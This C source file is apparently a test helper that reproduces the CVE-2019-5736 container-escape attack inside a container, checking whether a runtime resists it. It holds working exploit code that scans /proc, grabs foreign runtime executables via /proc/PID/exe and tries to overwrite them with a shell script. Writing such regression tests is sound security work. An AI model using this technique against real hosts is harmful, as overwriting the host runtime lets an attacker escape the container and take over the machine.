/*
 * The CVE-2019-5736 attacker, run inside a container by runner/tests/exe_attack.rs.
 *
 * For SECONDS seconds it scans the container's /proc for processes whose executable is not one
 * of the container's own files (the runtime's: an `exec`'d process before its execve, a second
 * container's process before `start`, the `--init` reaper), opens their /proc/PID/exe, holds
 * every descriptor it gets, and keeps trying to open each for writing through /proc/self/fd/N
 * (ETXTBSY while the runtime still runs from it) and to overwrite it. At the end it prints one
 * line: `seen=S opened=O written=W` (S: foreign processes seen, O: exe descriptors obtained,
 * W: successful writes) and the paths it opened, one `opened: PATH` line each.
 *
 * Usage: exe_overwrite SECONDS [READY-FILE [REPORT-FILE]]: READY-FILE is created once it scans;
 * the report goes to REPORT-FILE (else stdout). SIGTERM ends the scan early (then it reports).
 *
 * Built static by the test (cc -static), so it needs nothing from the image.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static int held[MAX_HELD];
static int held_count;
static char held_path[MAX_HELD][320];

/* Whether /proc/PID/exe is a file of the container's own root (same device and inode as the
 * path it names, seen from here). */
static int is_own_file(int fd, const char *target, struct stat *a)
{
	struct stat b;
	if (fstat(fd, a) != 0 || stat(target, &b) != 0)
		return 0;
	return a->st_dev == b.st_dev && a->st_ino == b.st_ino;
}

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	double seconds = argc > 1 ? atof(argv[1]) : 10;
	const char *ready = argc > 2 ? argv[2] : NULL;
	pid_t self = getpid();
	long seen = 0, opened = 0, written = 0;
	char seen_pids[65536] = {0};
	double end = now() + seconds;

	if (argc > 3 && !freopen(argv[3], "w", stdout))
		return 2;
	if (ready) {
		int fd = open(ready, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0)
			close(fd);
	}
	signal(SIGTERM, on_term);
	while (!stop && now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *e;
		if (!proc)
			return 2;
		while ((e = readdir(proc)) != NULL) {
			char link[64], target[256];
			int pid = atoi(e->d_name), fd;
			ssize_t n;
			struct stat st;
			if (pid <= 0 || pid == self || pid >= 65536 || seen_pids[pid] == 2)
				continue;
			snprintf(link, sizeof link, "/proc/%d/exe", pid);
			fd = open(link, O_RDONLY | O_CLOEXEC);
			if (fd < 0) {
				/* EACCES: a non-dumpable process, ours hopefully; ENOENT: a kernel thread or
				 * gone. Count the foreign ones we could not open as seen. */
				if (errno == EACCES && !seen_pids[pid]) {
					seen_pids[pid] = 1;
					seen++;
				}
				continue;
			}
			/* What was opened (the process may have exec'd since we listed it). */
			snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
			n = readlink(link, target, sizeof target - 1);
			target[n > 0 ? n : 0] = 0;
			if (is_own_file(fd, target, &st) || held_count == MAX_HELD) {
				close(fd);
				continue;
			}
			if (!seen_pids[pid])
				seen++;
			seen_pids[pid] = 2; /* held: not opened again */
			held[held_count] = fd;
			snprintf(held_path[held_count], sizeof held_path[0], "pid %d: %s (dev %lu ino %lu)",
				 pid, target, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
			held_count++;
			opened++;
		}
		closedir(proc);
		for (int i = 0; i < held_count; i++) {
			char path[64];
			int w;
			if (held[i] < 0)
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			w = open(path, O_WRONLY | O_CLOEXEC);
			if (w < 0)
				continue; /* ETXTBSY while it runs, EPERM when sealed */
			if (write(w, "#!/bin/sh\necho pwned\n", 21) == 21)
				written++;
			close(w);
			close(held[i]);
			held[i] = -1;
		}
	}
	printf("seen=%ld opened=%ld written=%ld\n", seen, opened, written);
	for (int i = 0; i < held_count; i++)
		printf("opened: %s\n", held_path[i]);
	return 0;
}
